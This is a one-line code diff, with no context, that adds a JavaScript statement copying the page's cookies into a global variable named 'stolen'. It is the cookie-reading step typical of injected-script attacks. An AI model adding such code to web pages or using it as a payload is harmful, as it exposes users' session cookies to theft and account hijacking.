@@ -1,0 +1,1 @@
+window.stolen = document.cookie;
